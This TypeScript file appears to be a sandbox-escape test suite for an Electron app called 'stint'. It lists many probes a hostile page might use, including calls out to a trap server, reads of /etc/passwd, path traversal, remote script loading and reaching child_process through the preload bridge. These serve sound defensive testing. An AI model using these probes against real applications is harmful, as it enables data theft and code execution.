/** A way in which a hostile page might try to leave. The code is the body of an async function of the page. */
export interface Attempt {
  readonly name: string
  /** `T`: the address of a server that must never hear of it; `never()`: waits a moment, then gives up by throwing. */
  readonly code: string
}

const list = (attempts: Readonly<Record<string, string>>): readonly Attempt[] =>
  Object.entries(attempts).map(([name, code]) => ({ name, code }))

const load = (make: string): string => `
  const element = ${make}
  const loaded = new Promise((yes, no) => { element.onload = () => yes('loaded'); element.onerror = () => no(Error('error')) })
  document.body.append(element)
  try { return await Promise.race([loaded, never()]) } finally { element.remove() }`

const make = (tag: string, fields: string): string => load(`Object.assign(document.createElement('${tag}'), ${fields})`)

/** A connection to another page; the trap tells whether it got anywhere. */
const callOut = (server: string): string => `
  const { host } = new URL(T)
  const peer = new RTCPeerConnection({ iceServers: [${server}] })
  peer.createDataChannel('x')
  await peer.setLocalDescription(await peer.createOffer())
  await new Promise((done) => setTimeout(done, 2000))
  const found = peer.localDescription.sdp.split('\\n').filter((line) => line.startsWith('a=candidate'))
  peer.close()
  if (found.length === 0) throw Error('no candidates')
  return found.join()`

/** Everything by which a page could send something to a network, or read from one. */
export const networkAttempts = list({
  fetch: `return (await fetch(T)).status`,
  'fetch without CORS': `return (await fetch(T, { mode: 'no-cors' })).type`,
  'fetch that outlives the page': `return (await fetch(T, { method: 'POST', body: 'x', keepalive: true })).status`,
  'fetch of https': `return (await fetch('https://sts.amazonaws.com/')).status`,
  'fetch of a file': `return (await fetch('file:///etc/passwd')).text()`,
  'fetch of another host of the own scheme': `return (await fetch('app://other/index.html')).text()`,
  'fetch of the app itself': `return (await fetch('app://stint/index.html')).status`,
  'fetch of a path above the app': `return (await fetch('app://stint/..%2f..%2fpackage.json')).text()`,
  'fetch of data:': `return (await fetch('data:text/plain,x')).text()`,
  'fetch of blob:': `return (await fetch(URL.createObjectURL(new Blob(['x'])))).text()`,
  XMLHttpRequest: `
    const request = new XMLHttpRequest()
    request.open('GET', T, false)
    request.send()
    return request.status`,
  'a beacon': `if (!navigator.sendBeacon(T, 'x')) throw Error('refused'); return never()`,
  WebSocket: `
    const socket = new WebSocket(T.replace('http', 'ws'))
    return new Promise((yes, no) => { socket.onopen = () => yes('open'); socket.onerror = () => no(Error('error')) })`,
  EventSource: `
    const source = new EventSource(T)
    return new Promise((yes, no) => { source.onopen = () => yes('open'); source.onerror = () => no(Error('error')) })`,
  WebTransport: `const way = new WebTransport(T.replace('http', 'https')); await Promise.race([way.ready, never()]); return 'ready'`,
  image: make('img', `{ src: T }`),
  'image out of a set': make('img', `{ srcset: T + ' 2x' }`),
  'image of data:': make('img', `{ src: 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' }`),
  'image in SVG': `
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', T)
    svg.append(image)
    document.body.append(svg)
    return new Promise((yes, no) => { image.onload = () => yes('loaded'); image.onerror = () => no(Error('error')); setTimeout(no, 500) })`,
  'background through a style': `
    document.body.style.backgroundImage = 'url(' + T + ')'
    await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))
    document.body.style.backgroundImage = ''
    return never()`,
  'a style element': `
    const style = document.createElement('style')
    style.textContent = 'body { --broken-out: yes }'
    document.head.append(style)
    const seen = getComputedStyle(document.body).getPropertyValue('--broken-out')
    style.remove()
    if (!seen) throw Error('not applied')
    return seen`,
  'a style sheet': make('link', `{ rel: 'stylesheet', href: T }`),
  font: `await new FontFace('broken-out', 'url(' + T + ')').load(); return 'loaded'`,
  prefetch: make('link', `{ rel: 'prefetch', href: T }`),
  preload: make('link', `{ rel: 'preload', as: 'image', href: T }`),
  modulepreload: make('link', `{ rel: 'modulepreload', href: T }`),
  preconnect: make('link', `{ rel: 'preconnect', href: T }`),
  'a look-up of a name ahead': make('link', `{ rel: 'dns-prefetch', href: '//broken-out.invalid' }`),
  manifest: make('link', `{ rel: 'manifest', href: T }`),
  icon: make('link', `{ rel: 'icon', href: T }`),
  'speculation rules': `
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [T] }], prerender: [{ source: 'list', urls: [T] }] })
    document.head.append(rules)
    return never()`,
  video: `
    const video = Object.assign(document.createElement('video'), { src: T })
    return new Promise((yes, no) => { video.onloadeddata = () => yes('loaded'); video.onerror = () => no(Error('error')); video.load() })`,
  audio: `await new Audio(T).play(); return 'played'`,
  object: make('object', `{ data: T, type: 'text/html' }`),
  embed: make('embed', `{ src: T, type: 'text/html' }`),
  'a frame': `
    const frame = Object.assign(document.createElement('iframe'), { src: T })
    document.body.append(frame)
    try { return await never() } finally { frame.remove() }`,
  'a form that is sent': `
    const form = Object.assign(document.createElement('form'), { action: T, method: 'get' })
    document.body.append(form)
    form.submit()
    return never()`,
  'a form that posts into a new window': `
    const form = Object.assign(document.createElement('form'), { action: T, method: 'post', target: '_blank' })
    document.body.append(form)
    form.submit()
    return never()`,
  'the ping of a link': `
    const link = Object.assign(document.createElement('a'), { href: '#', ping: T })
    document.body.append(link)
    link.click()
    return never()`,
  'WebRTC through a STUN server': callOut(`{ urls: 'stun:' + host }`),
  'WebRTC through a TURN server': callOut(`{ urls: 'turn:' + host, username: 'a', credential: 'b' }`),
  'WebRTC through a TURN server over TCP': callOut(
    `{ urls: 'turn:' + host + '?transport=tcp', username: 'a', credential: 'b' }`,
  ),
  'a base address elsewhere': `
    const base = Object.assign(document.createElement('base'), { href: T })
    document.head.append(base)
    const used = document.baseURI
    base.remove()
    if (used.startsWith('app:')) throw Error('kept')
    return used`,
})

/** Everything by which text could become a program. */
export const scriptAttempts = list({
  eval: `return eval('1 + 1')`,
  'the Function constructor': `return Function('return 1')()`,
  'a constructor across the bridge': `return window.stint.call.constructor('return process')()`,
  'a timer with a text': `
    window.brokenOut = undefined
    setTimeout('window.brokenOut = 1', 0)
    await new Promise((done) => setTimeout(done, 50))
    if (!window.brokenOut) throw Error('not run')
    return 1`,
  'markup with a handler': `document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'; return 'parsed'`,
  'a whole document': `document.write('<script>1</script>'); return 'written'`,
  'an inline script': `
    const script = document.createElement('script')
    script.textContent = 'window.brokenOut = 2'
    document.head.append(script)
    if (window.brokenOut !== 2) throw Error('not run')
    return 2`,
  'a script of another host': `document.head.append(Object.assign(document.createElement('script'), { src: T })); return 'added'`,
  'a module of another host': `return typeof await import(T)`,
  'a module of data:': `return typeof await import('data:text/javascript,export default 1')`,
  'a module of blob:': `return typeof await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))`,
  'an attribute with a handler': `
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.brokenOut = 3')
    button.click()
    if (window.brokenOut !== 3) throw Error('not run')
    return 3`,
  'an address of javascript:': `location.href = 'javascript:window.brokenOut=4'; await never()`,
  WebAssembly: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 'compiled'`,
  'a worker of blob:': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return never()`,
  'a worker of data:': `new Worker('data:text/javascript,postMessage(1)'); return never()`,
  'a worker of another host': `new Worker(T); return never()`,
  'a shared worker': `new SharedWorker(T); return never()`,
  'a service worker': `await navigator.serviceWorker.register('/index.html'); return 'registered'`,
  'a worklet': `await new AudioContext().audioWorklet.addModule(T); return 'added'`,
  'a policy of its own for trusted types': `
    trustedTypes.createPolicy('own', { createScript: (text) => text })
    return 'made'`,
  'a frame with its own document': `
    const frame = document.createElement('iframe')
    frame.setAttribute('srcdoc', '<script>parent.brokenOut = 5</script>')
    document.body.append(frame)
    try { return await never() } finally { frame.remove() }`,
  'a frame of data:': `
    const frame = Object.assign(document.createElement('iframe'), { src: 'data:text/html,<script>parent.postMessage(1)</script>' })
    document.body.append(frame)
    const heard = new Promise((yes) => window.addEventListener('message', () => yes('heard'), { once: true }))
    try { return await Promise.race([heard, never()]) } finally { frame.remove() }`,
})

/** Everything by which a page could get at Node or at Electron. */
export const nodeAttempts = list({
  require: `return require('child_process')`,
  process: `return process.version`,
  module: `return module.constructor`,
  Buffer: `return Buffer.from('x')`,
  'the global object of Node': `return global.process`,
  'the folder of the script': `return __dirname`,
  'an import of a module of Node': `return Object.keys(await import('node:fs'))`,
  'Electron’s own module': `return require('electron')`,
  'a frame’s require': `return window.frames.require('fs')`,
  'more on the bridge': `
    const names = Object.keys(window.stint).filter((name) => !['call', 'on'].includes(name))
    if (names.length === 0) throw Error('nothing more')
    return names`,
  'a change of the bridge': `
    'use strict'
    window.stint.call = () => 'replaced'
    return window.stint.call()`,
  'another bridge in its place': `
    const before = window.stint
    Object.defineProperty(window, 'stint', { value: { call: () => 'replaced' } })
    if (window.stint === before) throw Error('kept')
    return 'replaced'`,
  'a prototype that reaches the preload script': `
    const { then } = Promise.prototype
    let seen
    Promise.prototype.then = function (...given) { seen = this?.constructor?.constructor; return then.apply(this, given) }
    try { await window.stint.call('connections:check', { startUrl: '' }) } finally { Promise.prototype.then = then }
    return (seen ?? Function)('return process')()`,
})

/** Everything that would make the page another one, or open one. */
export const navigationAttempts = list({
  'an address of http:': `location.href = T; return never()`,
  'an address of file:': `location.href = 'file:///etc/passwd'; return never()`,
  'an address of data:': `location.href = 'data:text/html,<h1>x</h1>'; return never()`,
  'an address of blob:': `location.href = URL.createObjectURL(new Blob(['<h1>x</h1>'], { type: 'text/html' })); return never()`,
  'an address of another host of the own scheme': `location.href = 'app://other/index.html'; return never()`,
  'an address of chrome:': `location.href = 'chrome://gpu'; return never()`,
  'a program of the system': `location.href = 'mailto:broken@out.invalid'; return never()`,
  'a replaced address': `location.replace(T); return never()`,
  'a refresh of the document': `
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = '0;url=' + T
    document.head.append(meta)
    return never()`,
  'a link': `
    const link = Object.assign(document.createElement('a'), { href: T })
    document.body.append(link)
    link.click()
    return never()`,
  'a link into a new window': `
    const link = Object.assign(document.createElement('a'), { href: T, target: '_blank' })
    document.body.append(link)
    link.click()
    return never()`,
  'a download': `
    const link = Object.assign(document.createElement('a'), { href: T, download: 'broken-out' })
    document.body.append(link)
    link.click()
    return never()`,
  'a download of blob:': `
    const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'broken-out' })
    document.body.append(link)
    link.click()
    return never()`,
  'a new window': `if (window.open(T) === null) throw Error('refused'); return 'opened'`,
  'a new window of the app': `if (window.open('app://stint/index.html') === null) throw Error('refused'); return 'opened'`,
  'an empty new window': `if (window.open('about:blank') === null) throw Error('refused'); return 'opened'`,
  'a web view': `
    const view = document.createElement('webview')
    view.setAttribute('src', T)
    document.body.append(view)
    if (typeof view.getWebContentsId !== 'function') throw Error('an element like any other')
    return view.getWebContentsId()`,
})

const ask = (name: string): string => `
  const { state } = await navigator.permissions.query({ name: '${name}' })
  if (state === 'denied') throw Error(state)
  return state`

/** Everything for which a page needs to be permitted. */
export const permissionAttempts = list({
  'query of clipboard-read': ask('clipboard-read'),
  'query of clipboard-write': ask('clipboard-write'),
  'query of notifications': ask('notifications'),
  'query of geolocation': ask('geolocation'),
  'query of camera': ask('camera'),
  'query of microphone': ask('microphone'),
  'query of midi': ask('midi'),
  'query of persistent-storage': ask('persistent-storage'),
  'query of idle-detection': ask('idle-detection'),
  'query of local-fonts': ask('local-fonts'),
  'query of window-management': ask('window-management'),
  'reading the clipboard': `return navigator.clipboard.readText()`,
  'reading the clipboard, whatever is in it': `return (await navigator.clipboard.read()).length`,
  'writing the clipboard': `await navigator.clipboard.writeText('broken out'); return 'written'`,
  'a notification': `
    const answer = await Notification.requestPermission()
    if (answer === 'denied') throw Error(answer)
    return answer`,
  'the place': `return new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))`,
  camera: `return String(await navigator.mediaDevices.getUserMedia({ video: true }))`,
  microphone: `return String(await navigator.mediaDevices.getUserMedia({ audio: true }))`,
  'the screen': `return String(await navigator.mediaDevices.getDisplayMedia())`,
  USB: `return String(await navigator.usb.requestDevice({ filters: [] }))`,
  'known USB devices': `return (await navigator.usb.getDevices())[0].productName`,
  HID: `return (await navigator.hid.requestDevice({ filters: [] }))[0].productName`,
  'a serial port': `return String(await navigator.serial.requestPort())`,
  Bluetooth: `return String(await navigator.bluetooth.requestDevice({ acceptAllDevices: true }))`,
  MIDI: `return String(await navigator.requestMIDIAccess({ sysex: true }))`,
  'when the user is away': `
    const answer = await IdleDetector.requestPermission()
    if (answer === 'denied') throw Error(answer)
    return answer`,
  'storage that stays': `if (!(await navigator.storage.persist())) throw Error('refused'); return 'granted'`,
  'the fonts of the system': `return (await queryLocalFonts()).length || never()`,
  'all screens': `return String(await getScreenDetails())`,
  'the whole screen': `await document.documentElement.requestFullscreen(); return 'whole'`,
  'the pointer': `
    await document.body.requestPointerLock()
    await new Promise((done) => setTimeout(done, 100))
    if (!document.pointerLockElement) throw Error('refused')
    return 'locked'`,
  'all keys': `await navigator.keyboard.lock(); return 'locked'`,
  'a screen that stays on': `return String(await navigator.wakeLock.request('screen'))`,
  'a passkey': `return String(await Promise.race([navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }), never()]))`,
})

/** Runs one attempt in a page, outside of the driver's own evaluation, which the content security policy would not bind. */
export function toScript({ code }: Attempt, trap: string): string {
  return `new Promise((done) => setTimeout(() => {
    const T = ${JSON.stringify(trap)}
    const never = () => new Promise((_yes, no) => setTimeout(() => no(Error('nothing happened')), 250))
    const attempt = async () => { ${code} }
    const limit = new Promise((_yes, no) => setTimeout(() => no(Error('no answer')), 4000))
    Promise.race([attempt(), limit]).then((got) => done('GOT ' + String(got)), (error) => done('held: ' + String(error?.message ?? error?.type ?? error)))
  }))`
}
